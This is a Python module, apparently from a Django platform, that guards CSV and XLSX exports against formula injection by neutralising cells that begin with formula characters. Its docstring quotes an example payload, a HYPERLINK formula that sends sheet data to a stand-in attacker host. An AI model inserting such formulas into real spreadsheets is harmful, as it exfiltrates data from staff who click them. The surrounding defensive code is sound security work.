"""Text a person typed stays text in every spreadsheet and CSV file the platform writes.

A spreadsheet program runs a cell that begins with `=`, `+`, `-`, `@`, a tab or a
carriage return as a formula (OWASP, "CSV Injection"): an answer such as
`=HYPERLINK("http://evil.example/?"&A1,"click")` would send the sheet's data away
when staff click it. Every writer passes its cells through these helpers; numbers,
dates and empty cells pass unchanged, so figures can still be recalculated.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from django.utils.functional import Promise
from openpyxl.cell import Cell

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_value(value: Any) -> Any:
    """A CSV cell: text a spreadsheet would run gets a leading apostrophe (OWASP's advice)."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def xlsx_value(sheet, value: Any) -> Any:
    """A value for openpyxl's `sheet.append`, in a normal or a write-only workbook.

    openpyxl itself stores a text beginning with `=` as a formula; such a text becomes a
    cell typed as text instead. Every text that a spreadsheet would take for a formula
    is also marked with Excel's quote prefix, so it stays text when someone edits it.
    The visible text is unchanged: no apostrophe is added inside an XLSX cell.
    """
    if isinstance(value, Promise):
        value = str(value)
    if not (isinstance(value, str) and value.startswith(FORMULA_START)):
        return value
    cell = Cell(sheet, row=1, column=1, value=value)  # `append` gives it its real place
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


def xlsx_append(sheet, values: Iterable[Any]) -> None:
    """Append one row to `sheet` with every text kept as text (see `xlsx_value`)."""
    sheet.append([xlsx_value(sheet, value) for value in values])
